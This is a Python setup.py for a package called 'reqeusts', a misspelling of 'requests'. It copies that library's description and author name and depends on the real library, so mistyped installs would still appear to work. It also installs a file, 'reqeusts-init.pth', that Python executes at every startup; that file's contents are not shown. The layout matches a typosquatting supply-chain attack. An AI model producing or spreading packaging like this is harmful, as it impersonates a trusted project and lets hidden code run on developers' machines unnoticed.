import os
from setuptools import setup

here = os.path.abspath(os.path.dirname(__file__))

setup(
    name="reqeusts",
    version="2.28.3",
    description="Python HTTP for Humans.",
    author="Kenneth Reitz",
    author_email="me@example.com",
    url="https://example.com/psf/requests",
    packages=["reqeusts"],
    data_files=[("", ["reqeusts-init.pth"])],
    install_requires=["requests"],
    python_requires=">=3.7",
    license="Apache 2.0",
)
